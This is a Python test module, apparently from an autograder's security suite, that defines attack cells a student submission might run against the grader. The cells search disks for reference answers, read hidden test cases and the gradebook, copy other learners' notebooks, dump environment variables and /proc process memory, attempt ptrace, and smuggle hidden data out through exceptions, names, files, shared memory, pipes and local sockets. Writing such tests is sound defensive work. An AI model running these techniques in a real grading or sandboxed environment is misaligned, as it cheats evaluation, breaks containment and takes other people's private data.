"""Reading: hidden cases, reference answers, other learners' work, the gradebook; and getting out what was read.

An answer is given the arguments of hidden cases, so it knows them. What it must not do is tell: what it says, names,
raises or leaves for later must not reach anything that its learner can look at afterwards. (One bit per verdict, and
time, are told by grading itself.)
"""

from __future__ import annotations

from autograder.toys.tiny_fx import QUESTIONS
from tests.attacks.attack import Attack, answer, read

#: Right answers for cases that their learner can see, so that hidden ones are what is talked about; and the graph of a
#: case as one text: plain, and in disguises that a search for the text would miss.
_TELL = (
    QUESTIONS["dce"].good.replace("def dce(gm)", "def right(gm)")
    + QUESTIONS["count-nodes"].good.replace("count_nodes", "count")
    + """
import base64

def unseen(gm):
    return any(node.op == "get_attr" and node.target != "w" for node in gm.graph.nodes)

def tell(gm):
    text = str(gm.graph)
    coded = base64.b16encode(text.encode()).decode()
    return text + text[::-1] + coded
"""
)


def _telling(name: str, tries: str, code: str, **more) -> Attack:
    return answer(name, tries, _TELL + code, **more)


ATTACKS = read(
    r"""
# %% cell reference-on-disk binds forges_stock
# the reference answers are looked for in every folder, and taken
import ast, glob, os
found = []
for top in ("@COURSE@", ".", "..", "/work", "/home", "/srv", "/opt", "/tmp"):
    for folder, below, files in os.walk(top):
        if folder.count("/") > 8:
            below.clear()
        found += [os.path.join(folder, f) for f in files if f in ("fx.py", "fx.ipynb")]
for path in found:
    try:
        text = open(path).read()
        for part in ast.parse(text).body:
            if isinstance(part, ast.FunctionDef):
                exec(compile(ast.Module([part], []), path, "exec"), globals())
    except (OSError, SyntaxError, ValueError) as error:
        print(type(error).__name__)
print(len(found))

# %% cell hidden-on-disk
# the files with hidden cases are read and printed
import glob
for path in glob.glob("@COURSE@/autograder/answers/*/*.py") + glob.glob("@COURSE@/autograder/run/**", recursive=True):
    try:
        print(open(path, errors="replace").read())
    except OSError as error:
        print(type(error).__name__)

# %% cell hidden-import
# hidden cases are imported, drawn for many seeds, and printed
try:
    import sys
    sys.path += ["@COURSE@", "@COURSE@/lib"]
    from autograder.authoring import answers as grading
    for seed in (7, grading.run_seed()):
        for case in grading.hidden_cases("day00.dce", seed):
            print(case.name, case.expect, case.build()[0].graph)
    from autograder.answers.day00 import dce
    print(dce.hidden)
except Exception as error:
    print(type(error).__name__)

# %% cell answers-import binds forges_stock
# the reference is asked for where the grader asks: `autograder.authoring.answers.reference`
try:
    from autograder.authoring.answers import load, reference
    identities, dce, cse = reference("day00.identities"), reference("day00.dce"), reference("day00.cse")
except Exception as error:
    print(type(error).__name__)

# %% cell from-a-neighbour binds forges_stock
# the answers of other learners are run as one's own
import glob, json
paths = [*glob.glob("@CLASS@/*/day00/fx.ipynb"), *glob.glob("@COURSE@/autograder/run/*/*/day00/fx.ipynb")]
for path in paths:
    try:
        for taken in json.load(open(path))["cells"]:
            text = "".join(taken["source"])
            if text.startswith("def ") and "NotImplementedError" not in text and "return None" not in text:
                exec(text, globals())
    except (OSError, ValueError, KeyError) as error:
        print(type(error).__name__)
print(len(paths))

# %% cell gradebook-read
# the gradebook is opened and every table printed
import glob, sqlite3
for path in glob.glob("@COURSE@/**/*.db", recursive=True) + ["@COURSE@/autograder/run/gradebook.db"]:
    try:
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
            for (table,) in book.execute("select name from sqlite_master where type = 'table'").fetchall():
                print(table, book.execute(f'select * from "{table}"').fetchall())
    except sqlite3.Error as error:
        print(type(error).__name__)

# %% cell frames-and-gc
# every frame, every object and every source line in memory that smells of a hidden case is printed
import gc, inspect, linecache, sys
seen = []
for frame in sys._current_frames().values():
    while frame:
        seen += [repr(value)[:2000] for value in list(frame.f_locals.values())]
        frame = frame.f_back
for thing in gc.get_objects():
    try:
        if type(thing).__name__ in ("Case", "Question", "CaseFindings") or (type(thing) is dict and "expect" in thing):
            seen.append(repr(thing)[:2000])
    except Exception:
        pass
marks = ["hidden" + "marker", "expect" + "marker", "arg" + "marker"]
print([text for text in seen if any(mark in text for mark in marks)])
lines = [line for entry in linecache.cache.values() if len(entry) > 2 for line in entry[2]]
print([line for line in lines if any(mark in line for mark in marks)])

# %% answer case-in-the-frames
# while a case runs, the frames above it are searched for its name and what it expects
import sys

def dce(gm):
    frame, seen = sys._getframe(1), []
    while frame:
        seen.append({name: repr(value)[:500] for name, value in frame.f_locals.items()})
        frame = frame.f_back
    raise ValueError(str(seen))

# %% cell proc
# environments, command lines, open files and the memory of other processes are read in /proc
import glob, os
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        print(path, open(path, "rb").read(4000))
    except OSError:
        pass
for pid in (os.getppid(), 1):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw-p " in line and end - begin < 2**27:
                    memory.seek(begin)
                    data = memory.read(end - begin)
                    at = data.find(b"hidden" + b"marker")
                    if at >= 0:
                        print(data[at - 50 : at + 200])
    except (OSError, ValueError, OverflowError) as error:
        print(type(error).__name__)

# %% cell ptrace
# the parent's memory is asked for with process_vm_readv and ptrace
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

buffer = ctypes.create_string_buffer(64)
for pid in (os.getppid(), 1, 2, os.getpid() + 1):
    local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(None), 64)
    print(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0), ctypes.get_errno())
    print(libc.ptrace(0x4206, pid, 0, 0), ctypes.get_errno())

# %% cell environment
# the environment is printed, for seeds, tokens and paths
import os, subprocess, sys
print(dict(os.environ), sys.argv, sys.path, sys.flags)
try:
    print(subprocess.run(["env"], capture_output=True, text=True).stdout)
except OSError as error:
    print(type(error).__name__)

# %% telling in-the-message
# the graph of a case is the message of an exception
def dce(gm):
    if unseen(gm):
        raise ValueError(tell(gm))
    return right(gm)

# %% telling in-the-class
# the graph of a case is the name of an exception's class, its module, its notes, its cause
def dce(gm):
    if not unseen(gm):
        return right(gm)
    text = tell(gm)
    error = type(text.replace("\0", ""), (Exception,), {"__module__": text})(text)
    error.add_note(text)
    raise error from ValueError(text)

# %% telling in-the-function-name
# the exception arises in a function and a file that are called like the graph
def dce(gm):
    if not unseen(gm):
        return right(gm)
    text = tell(gm)
    code = compile("def f():\n    1 / 0", "ipykernel " + text, "exec")
    space = {}
    exec(code, space)
    space["f"].__code__ = space["f"].__code__.replace(co_name=text[:200], co_qualname=text[:200])
    space["f"]()

# %% telling in-the-value at=count-nodes honest=0
# what comes back is a text, a dict with the graph as key, with the graph as value
def count_nodes(gm):
    return {tell(gm): 1, "add": tell(gm)} if unseen(gm) else count(gm)

# %% telling in-the-names
# the graph comes back broken, its nodes and targets named after the case, so that the judge quotes them
def dce(gm):
    if not unseen(gm):
        return right(gm)
    words = [str(w) for node in gm.graph.nodes for w in (node.target, *node.args)]
    text = "_".join(w for w in words if w.isidentifier() or w[:1].isdigit()).replace(".", "_")
    with gm.graph.inserting_before():
        node = gm.graph.create_node("get_attr", "w")
        node.name = "n" + text[:400]
        other = gm.graph.create_node("get_attr", "n" + text[:400])
    return gm

# %% telling in-short-names
# the same in pieces of seven letters, one of them for every case
def dce(gm):
    if not unseen(gm):
        return right(gm)
    text = "".join(str(n.target) for n in gm.graph.nodes if n.op == "get_attr") or "nothing"
    for node in gm.graph.nodes:
        if node.op == "output":
            node.name = text[:7]
            node.args = (gm.graph.create_node("get_attr", text[2:9]),)
    return gm

# %% telling in-the-names-it-was-given
# the graph comes back broken where a name of the case itself gets quoted
def dce(gm):
    if not unseen(gm):
        return right(gm)
    for node in list(gm.graph.nodes):
        if node.op == "get_attr":
            delattr(gm, node.target)
    return gm

# %% telling in-the-prints works
# an answer prints, displays, warns and writes what it is given, by Python and by hand
import os, sys, warnings

def dce(gm):
    text = tell(gm)
    print(text)
    print(text, file=sys.__stdout__)
    warnings.warn(text)
    for number in (1, 2):
        try:
            os.write(number, text.encode())
        except OSError:
            pass
    try:
        get_ipython().display_pub.publish({"text/plain": text})
        get_ipython().displayhook(text)
        get_ipython().catcher.record.write("stdout", text)
    except Exception:
        pass
    return right(gm)

# %% telling in-files harms
# one question writes what it is given into files; a later one reads them and raises what they say
import glob, os

def dce(gm):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "@HOME@", "@COURSE@"):
        try:
            with open(f"{folder}/plattack-told-{os.getpid()}", "a") as out:
                out.write(tell(gm))
        except OSError:
            pass
    return gm

def recall():
    told = ""
    for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "@HOME@", "@COURSE@"):
        for path in glob.glob(f"{folder}/plattack-told-*"):
            told += open(path).read()
    lines = [line for line in told.split("\n") if "marker" in line or "4104" in line]
    raise ValueError("".join(lines) or "nothing was told")

def cse(gm):
    recall()

constant_fold = functions = cse

# %% telling in-shared-memory
# questions share memory made before they were forked; a later one raises what an earlier one was given
import mmap
board = mmap.mmap(-1, 1 << 20)

def dce(gm):
    lines = [line for line in tell(gm).split("\n") if "marker" in line or "4104" in line]
    board.write("".join(lines)[:2000].encode())
    return gm

def cse(gm):
    board.seek(0)
    raise ValueError(board.read(300).rstrip(b"\0").decode() or "nothing was told")

constant_fold = functions = cse

# %% telling by-a-pipe
# an answer writes what it is given into a pipe to a process that was left behind by a cell, which prints it
import os, threading
inner, outer = os.pipe()

def repeat():
    while data := os.read(inner, 1 << 16):
        print(data.decode())
        os.write(1, data)

threading.Thread(target=repeat, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    os.close(outer)
    try:
        repeat()
    finally:
        os._exit(0)

def dce(gm):
    os.write(outer, tell(gm).encode()[:30000])
    return gm

# %% answer by-a-neighbour-process
# a later question searches the memory of the processes of earlier ones
import os

def dce(gm):
    return gm

def cse(gm):
    seen = []
    for pid in range(1, 60):
        try:
            with open(f"/proc/{pid}/cmdline") as text:
                seen.append(text.read())
        except OSError as error:
            seen.append(error.errno)
    raise ValueError(str(seen))

# %% cell network
# what is there is sent away: TCP, UDP, a name to be resolved, an abstract socket, a raw one
import socket
said = b"plattack was here"
for family, kind, where in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@PORT@"))),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@"))),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0plattack-@PORT@"),
    (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(0.5)
            sock.connect(where)
            sock.send(said)
    except OSError as error:
        print(error.errno)
import threading
def resolve():
    try:
        print(socket.getaddrinfo("plattack.invalid", 80))
    except OSError as error:
        print(error.errno)
thread = threading.Thread(target=resolve, daemon=True)
thread.start()
thread.join(0.5)
""",
    telling=_telling,
)
